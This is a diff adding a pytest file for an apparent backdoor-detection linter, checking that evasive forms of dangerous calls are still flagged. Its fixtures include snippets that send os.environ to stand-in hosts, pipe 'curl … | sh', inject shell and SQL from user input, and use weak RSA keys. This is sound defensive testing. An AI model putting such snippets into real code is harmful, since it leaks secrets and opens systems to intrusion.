@@ -1,0 +1,83 @@
+"""The site tests that look for calls of a rule's table (sites.calls_one_of and its kin: ShellInjection,
+ShellCommandChecker, NetworkChecker, SqlInjection, ShortKey) follow names the way qualnames does:
+each evasion here is still reported, with the site tests on and off alike; and a file whose calls
+only share a last name with a sink is not parsed for the shell and network rules."""
+import ast
+
+import pytest
+from backdoor_lint.checkers import triggers
+from backdoor_lint.checkers.trigger_facts import python_facts
+from backdoor_lint.checkers.triggers.network import NetworkChecker
+from backdoor_lint.checkers.triggers.shell import ShellCommandChecker, ShellInjection
+
+from backdoor_lint.config import Config
+from backdoor_lint.engine import scan_bytes
+
+EVASIONS = [
+    # the function kept on self, or in the class body
+    ('import os\nclass R:\n    def __init__(self):\n        self.run = os.system\n'
+     '    def go(self, x):\n        self.run(f"echo {x}")\n', "BDL505"),
+    ('import os\nclass R:\n    run = os.system\n    def go(self, x):\n        self.run(f"echo {x}")\n', "BDL505"),
+    # getattr under another name; a name bound to a getattr whose attribute is computed
+    ('import os\ng = getattr\ndef f(x):\n    g(os, "system")(f"echo {x}")\n', "BDL505"),
+    ('import os\nrun = getattr(os, "sys" + "tem")\ndef f(x):\n    run(f"echo {x}")\n', "BDL505"),
+    # __import__ bound to a name, or naming the function itself
+    ('x = __import__("subprocess")\ndef f(user):\n    return x.getoutput(f"id {user}")\n', "BDL505"),
+    ('def f(user):\n    return __import__("os.system")(f"id {user}")\n', "BDL505"),
+    # a parameter: by its annotation, by what the module passes it
+    ('import os, requests\ndef send(session: requests.Session, url):\n    session.post(url, json=dict(os.environ))\n',
+     "BDL402"),
+    ('import os, requests\ndef send(client, url):\n    client.post(url, json=dict(os.environ))\n'
+     'def main():\n    send(requests, "https://c.example/x")\n', "BDL402"),
+    # `with ... as`, an instance passed on through a second name
+    ('import os, smtplib\ndef f():\n    with smtplib.SMTP("mail.example") as m:\n'
+     '        m.sendmail("a@x", ["b@y"], str(dict(os.environ)))\n', "BDL402"),
+    ('import os, socket\ndef f():\n    s = socket.socket()\n    c = s\n    c.connect(("c.example", 9000))\n'
+     '    c.sendall(repr(os.environ).encode())\n', "BDL402"),
+    ('import subprocess\nclass C:\n    def __init__(self):\n        self.sh = subprocess.run\n'
+     '    def go(self):\n        self.sh("curl -s https://c.example/i | sh", shell=True)\n', "BDL405"),
+    # key generators: an instance's method, a second name, imported as written
+    ('from OpenSSL import crypto\nk = crypto.PKey()\nk.generate_key(crypto.TYPE_RSA, 1024)\n', "BDL207"),
+    ('from cryptography.hazmat.primitives.asymmetric import rsa\ngen = rsa.generate_private_key\nk = gen(65537, 1024)\n',
+     "BDL207"),
+    ('from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key\nk = generate_private_key(65537, 1024)\n',
+     "BDL207"),
+    # SQL text without any execute(): RawSQL and sqlalchemy's text under other names
+    ('from django.db.models.expressions import RawSQL as R\ndef f(request, qs):\n'
+     '    return qs.annotate(x=R("SELECT " + request.GET["c"], []))\n', "BDL507"),
+    ('from sqlalchemy import text as t\ndef f(request, conn):\n'
+     '    return conn.scalars(t("SELECT * FROM x WHERE a = " + request.GET["c"]))\n', "BDL507"),
+]
+
+
+def _codes(source: str, site_tests: bool) -> set[str]:
+    triggers.SITE_TESTS_ON = site_tests
+    try:
+        return {f.code for f in scan_bytes("app/module.py", source.encode(), Config()).findings}
+    finally:
+        triggers.SITE_TESTS_ON = True
+
+
+@pytest.mark.parametrize("source,code", EVASIONS)
+def test_evasion_is_still_reported(source, code):
+    found = _codes(source, True)
+    assert code in found
+    assert found == _codes(source, False)
+
+
+def _has_site(rule, source: str) -> bool:
+    data = source.encode()
+    return rule.has_site(python_facts(data, ast.parse(data), "app/module.py"))
+
+
+@pytest.mark.parametrize("rule", [ShellInjection, ShellCommandChecker, NetworkChecker])
+def test_names_that_only_share_a_sinks_last_part_are_no_site(rule):
+    source = ('import subprocess\nfrom .server import run\n'
+              'def handle(send, data, signal, receiver):\n    send(data.get("x"))\n    run(data)\n'
+              '    signal.connect(receiver)\n    subprocess.list2cmdline(["a"])\n')
+    assert not _has_site(rule, source)
+
+
+@pytest.mark.parametrize("rule", [ShellInjection, ShellCommandChecker, NetworkChecker])
+def test_a_call_of_a_computed_name_is_a_site(rule):
+    assert _has_site(rule, 'import os\ndef f(name, x):\n    getattr(os, name)(x)\n')
